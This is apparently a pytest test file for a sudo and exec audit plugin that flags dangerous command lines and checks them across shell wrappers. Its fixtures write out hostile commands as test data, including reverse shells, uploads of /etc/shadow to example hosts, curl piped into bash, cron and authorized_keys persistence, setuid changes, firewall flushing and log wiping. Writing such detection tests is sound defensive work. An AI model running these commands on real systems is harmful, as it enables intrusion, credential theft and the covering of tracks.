"""What a command line says it does (evidence.py), category by category of
its docstring: each deed and its harmless neighbours, read every way a
command line reaches the plugin: as sudo's ``cmd`` (a shell command line,
``judge_text``), as an exec's argv (``judge_words``), and inside the
strings shells run with -c, behind wrappers (sudo -u, env, bash -lc) and
one shell inside another.
"""

import shlex

import pytest

from audit_notify.evidence import CRITICAL, PREFIX, WARNING, Finding, judge_text, judge_words, pipelines

ACTOR = "opsadm"  # the person whose command lines these are (an admin, for "another user's key")
# Characters that make a command line shell syntax rather than one argv.
_SHELL_SYNTAX = set("|&;<>()$`")

# The argvs a command line arrives in when a shell runs it.
WRAPPED = {
    "sh -c": lambda text: ["sh", "-c", text],
    "bash -lc": lambda text: ["/bin/bash", "-lc", text],
    "sudo -u x sh -c": lambda text: ["sudo", "-u", "x", "sh", "-c", text],
    "env X=1 sh -c": lambda text: ["/usr/bin/env", "X=1", "sh", "-c", text],
    "su - root -c": lambda text: ["su", "-", "root", "-c", text],
    "sh -c 'sh -c …'": lambda text: ["sh", "-c", "sh -c " + shlex.quote(text)],
}


def ways(text, actor=ACTOR):
    """(how, finding) for ``text`` read each way it can reach the plugin."""
    found = [("sudo's cmd", judge_text(text, actor)),
             ("sudo's cmd: sudo sh -c '…'", judge_text("sudo sh -c " + shlex.quote(text), actor))]
    if not _SHELL_SYNTAX & set(text):  # one command: its own exec's argv too
        found.append(("argv", judge_words(shlex.split(text), actor)))
    found += [(how, judge_words(wrap(text), actor)) for how, wrap in WRAPPED.items()]
    return found


def values(finding):
    """The values of a deed (phrases.py marks them): every other part."""
    return finding.deed[1::2]


# -- each category: (command line, verdict, the value the deed names first) ------------------------------

CRITICAL_DEEDS = [
    # Writes into the places that decide who logs in, what runs at boot or for everyone.
    ("sudo sh -c 'echo \"* * * * * root /tmp/.u\" > /etc/cron.d/x'", "cron written", "/etc/cron.d/x"),
    ("echo '[Service]' | sudo tee -a /etc/systemd/system/x.service", "systemd written",
     "/etc/systemd/system/x.service"),
    ('sh -c "echo key >> /root/.ssh/authorized_keys"', "authorized_keys written", "/root/.ssh/authorized_keys"),
    ("cp x /usr/local/bin/ls", "system programs written", "/usr/local/bin/ls"),
    ("install -m755 x /usr/local/sbin/", "system programs written", "/usr/local/sbin/x"),
    ("install -o root -m 755 x /usr/local/sbin/", "system programs written", "/usr/local/sbin/x"),
    ("cp -t /etc/cron.d x", "cron written", "/etc/cron.d/x"),
    ("cp x /etc/cron.d/y 2>/dev/null", "cron written", "/etc/cron.d/y"),
    ("mv /tmp/x /usr/bin/ls", "system programs written", "/usr/bin/ls"),
    ("dd if=x of=/etc/ld.so.preload", "ld.so.preload written", "/etc/ld.so.preload"),
    ("sed -i s/a/b/ /etc/pam.d/sshd", "PAM written", "/etc/pam.d/sshd"),
    ("echo '203.0.113.9 updates.example.org' >> /etc/hosts", "name resolution written", "/etc/hosts"),
    ("echo x > '/etc/cron.d/a;b'", "cron written", "/etc/cron.d/a;b"),
    # setuid/setgid modes and file capabilities.
    ("chmod 4755 /tmp/.x", "setuid bit set", "/tmp/.x"),
    ("chmod u+s /tmp/.x", "setuid bit set", "/tmp/.x"),
    ("chmod g+s /srv/share", "setuid bit set", "/srv/share"),
    ("chmod 2755 /srv/share", "setuid bit set", "/srv/share"),
    ("chmod 04755 /tmp/.x", "setuid bit set", "/tmp/.x"),
    ("chmod 3775 /srv/share", "setuid bit set", "/srv/share"),
    ("chmod -R 6755 /tmp/.x", "setuid bit set", "/tmp/.x"),
    ("chmod 4755 /tmp/.x 2>/dev/null", "setuid bit set", "/tmp/.x"),
    ("setcap cap_setuid+ep /tmp/py", "file capabilities set", "/tmp/py"),
    # The firewall flushed or opened.
    ("iptables -F", "firewall flushed", "iptables -F"),
    ("iptables -t nat -F", "firewall flushed", "iptables -t nat -F"),
    ("iptables -P INPUT ACCEPT", "firewall opened", "iptables -P INPUT ACCEPT"),
    ("nft flush ruleset", "firewall flushed", "nft flush ruleset"),
    ("ufw disable", "firewall disabled", "ufw disable"),
    ("systemctl stop ufw", "firewall disabled", "systemctl stop ufw"),
    # Uploads, shells wired to the network, payloads piped into a shell.
    ("curl -T f http://h:8000/", "file uploaded", "f"),
    ("curl --data @/etc/shadow http://198.51.100.1/", "file uploaded", "/etc/shadow"),
    ("curl -F x=@f http://198.51.100.1/", "file uploaded", "f"),
    ("wget --post-file=f http://198.51.100.1/", "file uploaded", "f"),
    ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "shell wired to the network", "1.2.3.4:4444"),
    ("nc -e /bin/sh h 4444", "shell wired to the network", "nc -e /bin/sh h 4444"),
    ("echo ZWNobyBoaQ== | base64 -d | sh", "decoded payload run", "sh"),
    ("curl -s http://198.51.100.1/x | bash", "downloaded script run", "curl"),
    # Login records, auth logs and the audit trail wiped.
    (": > /var/log/wtmp", "login records wiped", "/var/log/wtmp"),
    ("shred -u /var/log/btmp", "login records wiped", "/var/log/btmp"),
    ("rm /var/log/auth.log", "auth log wiped", "/var/log/auth.log"),
    ("truncate -s0 /var/log/lastlog", "login records wiped", "/var/log/lastlog"),
    ("rm -f /var/log/audit/audit.log", "audit trail wiped", "/var/log/audit/audit.log"),
    # Password hashes or another user's private key read.
    ("cat /etc/shadow", "password hashes read", "/etc/shadow"),
    ("tar czf /tmp/a.tgz /etc/shadow", "password hashes read", "/etc/shadow"),
    ("cat /home/alice/.ssh/id_ed25519", "private key read", "/home/alice/.ssh/id_ed25519"),
    # Code run from the world-writable scratch places.
    ("sh /dev/shm/x", "program run from a temporary place", "/dev/shm/x"),
    ("python3 /tmp/x.py", "program run from a temporary place", "/tmp/x.py"),
    ("/dev/shm/x -q", "program run from a temporary place", "/dev/shm/x"),
]


@pytest.mark.parametrize("text, why, value", CRITICAL_DEEDS)
def test_a_deed_is_critical_however_the_command_line_reaches_us(text, why, value):
    for how, found in ways(text):
        assert isinstance(found, Finding), (how, text)
        assert (found.severity, found.why) == (CRITICAL, PREFIX + why), (how, text)
        assert values(found)[0] == value, (how, found.deed)


WARNING_DEEDS = [
    ("truncate -s 0 /var/log/app.log", "logs erased", "/var/log/app.log"),
    ("> /var/log/app.log", "logs erased", "/var/log/app.log"),
    ("rm -f ~/.bash_history", "shell history erased", "~/.bash_history"),
    ("echo nameserver 198.51.100.53 > /etc/resolv.conf", "DNS written", "/etc/resolv.conf"),
]


@pytest.mark.parametrize("text, why, value", WARNING_DEEDS)
def test_a_deed_worth_seeing_is_a_warning(text, why, value):
    for how, found in ways(text):
        assert found is not None and (found.severity, found.why) == (WARNING, PREFIX + why), (how, text, found)
        assert values(found)[0] == value, (how, found.deed)


HARMLESS = [
    # Beside the writes: reading those places, writing elsewhere, a quoted ">" that redirects nothing.
    "cat /etc/cron.d/x", "ls -l /etc/cron.d", "echo x > /tmp/y", "tee /tmp/x", "sed s/a/b/ /etc/pam.d/sshd",
    "sed -i s/a/b/ /tmp/x", "cp -t /tmp x", "grep '>' /etc/cron.d/x", "grep -c '|' /etc/pam.d/sshd",
    "echo '* * * * * root /tmp/x > /etc/cron.d/x'", "echo \\> /etc/cron.d/x",
    # Beside the modes.
    "chmod 755 /tmp/x", "chmod +x /tmp/x", "chmod 0644 /tmp/x", "chmod 1777 /srv/drop", "chmod a-s /tmp/x",
    "setcap -r /tmp/py", "getcap /tmp/py",
    # Beside the firewall.
    "iptables -P INPUT DROP", "iptables -L", "iptables -A INPUT -p tcp --dport 22 -j ACCEPT", "nft list ruleset",
    "ufw allow 22", "systemctl stop nginx", "systemctl status ufw",
    # Beside the uploads and network shells: downloads, forms, a port probe.
    "curl -o /tmp/x http://198.51.100.1/x", "curl -d 'a=b' http://198.51.100.1/", "curl -F name=value http://h/",
    "wget -q http://198.51.100.1/x", "nc -z h 22", "echo x 2>&1",
    # Beside the payloads.
    "base64 file", "base64 -d f > /tmp/x", "curl -s http://198.51.100.1/x | tee /tmp/x",
    # Beside the wiping: logging, reading logs.
    "echo x >> /var/log/app.log", "echo x >> /var/log/wtmp", "ls /var/log", "cat /var/log/auth.log",
    # Beside the secrets: names and checksums, public keys, one's own key.
    "ls -l /etc/shadow", "sha256sum /etc/shadow", "stat /etc/shadow", "chmod 640 /etc/shadow",
    "cat /home/alice/.ssh/id_ed25519.pub", "cat ~/.ssh/id_rsa", "cat /home/opsadm/.ssh/id_ed25519",
    # Beside the scratch places.
    "sh /usr/local/bin/x", "python3 -m http.server", "ls /tmp/x", "rm /tmp/x",
    # Ordinary work.
    "apt-get install -y sl", "ssh -p 2222 host", "mkdir -p /tmp/x", "cp a b", "grep -r foo /etc",
    "uptime; ls -l reports", "ps aux | head -5", "df -h /", "systemctl restart nginx",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_command_lines_say_nothing(text):
    for how, found in ways(text):
        assert found is None, (how, text, found)


def test_a_private_key_is_its_owners():
    key = "cat /home/alice/.ssh/id_ed25519"
    assert judge_text(key, "opsadm").severity == CRITICAL
    assert judge_text(key, "opsadm").deed[2] == " (alice's private key)"
    assert judge_text(key, "alice") is None
    assert judge_words(shlex.split(key), "alice") is None
    assert judge_text("cat ~alice/.ssh/id_rsa", "opsadm").deed[2] == " (alice's private key)"
    assert judge_text("cat /root/.ssh/id_rsa", "opsadm").severity == CRITICAL
    assert judge_text("cat /root/.ssh/id_rsa", "root") is None


def test_an_upload_names_where_it_went():
    found = judge_text("curl -T /tmp/a.tgz http://198.51.100.1:8000/up")
    assert found.deed == ("uploaded ", "/tmp/a.tgz", " to ", "198.51.100.1:8000")


def test_the_worst_deed_of_a_line_wins():
    found = judge_text("truncate -s 0 /var/log/app.log; echo x > /etc/cron.d/x")
    assert (found.severity, found.why) == (CRITICAL, PREFIX + "cron written")
    assert judge_text("truncate -s 0 /var/log/app.log; ls").severity == WARNING


def test_shells_are_looked_into_only_so_deep():
    """sh -c inside sh -c is read four levels down (MAX_DEPTH), no further:
    a bound on the work, not a place to hide (each level is an exec of its
    own, read when it runs)."""
    text = "echo x > /etc/cron.d/x"
    for _ in range(3):
        text = "sh -c " + shlex.quote(text)
    assert judge_text(text).why == PREFIX + "cron written"
    deep = ["sh", "-c", text]
    for _ in range(4):
        deep = ["sh", "-c", shlex.join(deep)]
    assert judge_words(deep) is None


# -- reading a command line -------------------------------------------------------

def test_a_line_is_read_into_pipelines_of_simple_commands_with_their_redirections():
    [[first, second], [third]] = pipelines("curl -s URL 2>/dev/null | sh; echo 'a|b' > '/x y'")
    assert first.words == ["curl", "-s", "URL"] and first.redirects == [(">", "/dev/null")]
    assert second.words == ["sh"] and second.redirects == []
    assert third.words == ["echo", "a|b"] and third.redirects == [(">", "/x y")]
    [[quoted]] = pipelines("grep '>' /etc/cron.d/x")
    assert quoted.words == ["grep", ">", "/etc/cron.d/x"] and quoted.redirects == []


ODD_TEXTS = [
    "", " ", "'", '"', "sh -c 'echo > /etc/cron.d/x", "|||", ";;", ">", "2>&", "<<<", "((((", "sh -c", "sudo",
    "env", "a=b", "a\0b > /etc/cron.d/x", "cat /etc/sha\udcffdow", "\udcff\udcfe", "\ue004 /etc/cron.d/x",
    "`cat /etc/shadow`", "$(", "x" * 1_000_000, "cat /x " * 150_000, "echo|" + "|".join(["sh"] * 3000),
    "echo " + " ".join(["> /tmp/x"] * 1000),
]
ODD_ARGVS = [
    [], [""], ["\0"], ["\udcff"], ["sh", "-c"], ["sh", "-c", "'"], ["sudo"], ["env", "A=1"], ["chmod"],
    ["chmod", "4755"], ["setcap"], ["curl", "-T"], ["dd", "of="], ["cp", "-t"], ["install"], ["tee"],
    ["iptables", "-P"], ["timeout"], ["nice", "-n"], ["xargs", "-a"], ["sh", "-c", "x" * 1_000_000],
    ["cat", "/" + "x" * 1_000_000], ["env"] + ["A=1"] * 100_000 + ["id"], ["sudo"] + ["-E"] * 100_000,
    ["sh", "-c", "echo|" + "|".join(["sh"] * 3000)],
]


@pytest.mark.parametrize("text", ODD_TEXTS, ids=lambda text: repr(text[:20]))
def test_odd_command_lines_never_raise(text):
    found = judge_text(text, ACTOR)
    assert found is None or isinstance(found, Finding)


@pytest.mark.parametrize("words", ODD_ARGVS, ids=lambda words: repr(words[:3])[:30])
def test_odd_argvs_never_raise(words):
    found = judge_words(words, ACTOR)
    assert found is None or isinstance(found, Finding)


def test_a_megabyte_command_line_is_read_as_far_as_it_matters():
    """A 1 MB line returns, with what its start says (only MAX_TEXT of a
    line is read: the cost of one event is bounded)."""
    filler = " ".join(["/srv/data"] * 100_000)
    assert judge_text("echo x > /etc/cron.d/x; ls " + filler).why == PREFIX + "cron written"
    assert judge_words(["sh", "-c", "cat /etc/shadow; ls " + filler]).why == PREFIX + "password hashes read"
    assert judge_text("ls " + filler + "; echo x > /etc/cron.d/x") is None


def test_netcat_sending_a_file_or_a_pipe_to_a_host_is_an_upload_listening_or_probing_is_not():
    found = judge_text("nc 203.0.113.9 4444 < /etc/shadow")
    assert (found.severity, found.why, found.deed) == (
        CRITICAL, PREFIX + "file uploaded", ("uploaded ", "/etc/shadow", " to ", "203.0.113.9:4444"))
    piped = judge_text("sh -c tar czf - /etc | nc 203.0.113.9 4444")
    assert piped.deed == ("uploaded what a pipe fed it to ", "203.0.113.9:4444")
    for quiet in ("nc -l 4444", "nc -z host 22", "nc host 80", "nc -lvp 4444 > /tmp/got"):
        assert judge_text(quiet) is None, quiet


def test_a_udp_redirection_says_udp():
    assert judge_text("bash -i >& /dev/udp/203.0.113.9/53 0>&1").deed[-1] == " (/dev/udp)"


def test_an_argv_of_a_hundred_thousand_words_is_read_only_so_far():
    words = ["cat"] + ["/srv/f%d" % i for i in range(100000)] + ["/etc/shadow"]
    assert judge_words(words) is None  # past MAX_WORDS: not read
    assert judge_words(["cat", "/etc/shadow"] + ["/srv/f%d" % i for i in range(100000)]).severity == CRITICAL
